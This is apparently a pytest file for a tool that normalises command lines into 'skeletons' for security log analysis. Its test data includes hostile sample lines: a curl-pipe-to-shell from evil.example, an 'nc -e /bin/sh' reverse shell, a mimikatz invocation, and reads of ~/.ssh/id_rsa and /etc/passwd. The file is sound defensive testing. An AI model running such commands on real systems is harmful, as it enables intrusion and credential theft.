"""Skeletons of command lines: what changes is replaced, what says what is done stays."""

import random
import time

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flowsleuth.extract.skeletons import delimiter_skeletons, skeletons

_HEX = "0123456789abcdef"
_DICE = random.Random(7)


def _hex(digits: int) -> str:
    return "".join(_DICE.choice(_HEX) for _ in range(digits))


def _guid() -> str:
    return "-".join(map(_hex, (8, 4, 4, 4, 12)))


def _number() -> int:
    return _DICE.randrange(10**7)


TEMPLATES = (
    lambda: rf'"C:\Program Files\Agent\agent.exe" -id {_guid()} -n {_number()}',
    lambda: rf"C:\Windows\system32\cmd.exe /c del C:\Temp\{_number()}.tmp",
    lambda: rf"\??\C:\Windows\system32\conhost.exe 0x{_hex(8)} -ForceV1",
    lambda: f"/bin/sh -c /usr/bin/python /var/lib/agent/x{_number()}.py --port {_number()}",
    lambda: f"curl -s http://10.{_DICE.randrange(256)}.3.9/a/{_number()}",
    lambda: f"ping 10.{_DICE.randrange(256)}.{_DICE.randrange(256)}.1 -n {_number()}",
    lambda: f"net use \\\\srv{_number()}\\share{_number()} /user:S-1-5-21-{_number()}-{_number()}-500",
    lambda: rf'rundll32.exe "C:\Users\u{_number()}\App Data\{_hex(6)}\a b.dll",Start',
    lambda: f"git fetch {_hex(40)}",
    lambda: f"java -jar /opt/app/{_guid()}/app.jar --job=a1f{_number()}c3d",
)
ONE_OFFS = ("whoami /all", "mimikatz.exe privilege::debug exit", "curl -s http://evil.example/x | sh", "nc -e /bin/sh")


def test_each_template_has_one_skeleton_and_one_offs_stay_alone() -> None:
    lines = [make() for make in TEMPLATES for _ in range(200)] + list(ONE_OFFS)
    found = skeletons(pa.array(lines)).value_counts().to_pylist()
    assert sorted(one["counts"] for one in found) == [1] * len(ONE_OFFS) + [200] * len(TEMPLATES)


@pytest.mark.parametrize(
    ("line", "skeleton"),
    [
        (r"C:\Windows\System32\rundll32.exe shell32.dll,Control_RunDLL", "rundll32.exe shell<n>.dll,Control_RunDLL"),
        (r"C:\Program Files\My App\my app.exe -x 1", "my app.exe -x <n>"),
        ("/usr/bin/cp /etc/passwd /tmp/a/b", "cp <path> <path>"),
        ("cmd.exe  /c\tdir", "cmd.exe /c dir"),
        ("./run.sh --at=2024-01-02T03:04:05Z", "run.sh --at=<n>-<n>-<id>:<n>:<n>Z"),
        ("cat ~/.ssh/id_rsa", "cat <path>"),
        ("find / -name x", "find / -name x"),
        (r"type ..\a\b.txt > %TEMP%\c.txt", "type <path>.txt > <path>.txt"),
        ("echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "echo <blob>"),
        ("tool {3F2504E0-4F89-11D3-9A0C-0305E82C3301} S-1-5-18", "tool <guid> <sid>"),
        ("", ""),
        ("   ", ""),
        ('"', '"'),
        ("naïve café 7", "naïve café <n>"),
    ],
)
def test_by_hand(line: str, skeleton: str) -> None:
    assert skeletons(pa.array([line])).to_pylist() == [skeleton]


def test_null_and_length_are_kept_and_chunks_do_not_matter() -> None:
    lines = ["a 1", None, "b 2", "a 3"]
    whole = skeletons(pa.array(lines))
    chunked = skeletons(pa.chunked_array([lines[:1], [], lines[1:]], pa.string()))
    assert whole.to_pylist() == chunked.to_pylist() == ["a <n>", None, "b <n>", "a <n>"]
    assert skeletons(pa.array([], pa.string())).to_pylist() == []
    assert skeletons(pa.array([None, None], pa.string())).to_pylist() == [None, None]


@given(st.lists(st.one_of(st.none(), st.text(max_size=80)), max_size=8))
def test_any_text_has_a_skeleton_of_its_own_accord(lines: list[str | None]) -> None:
    column = pa.array(lines, pa.string())
    for found in (skeletons(column), delimiter_skeletons(column)):
        assert found.type == pa.string()
        assert [one is None for one in found.to_pylist()] == [one is None for one in lines]
    assert all(
        skeletons(pa.array([line])).to_pylist() == [one]
        for line, one in zip(lines, skeletons(column).to_pylist(), strict=True)
        if line
    )


def test_a_hostile_line_takes_no_longer_than_its_length() -> None:
    began = time.process_time()
    skeletons(pa.array(['"' * 200_000, "\\" * 200_000, "/a" * 100_000, "a1" * 100_000, "C:\\" * 70_000, "-" * 200_000]))
    assert time.process_time() - began < 5
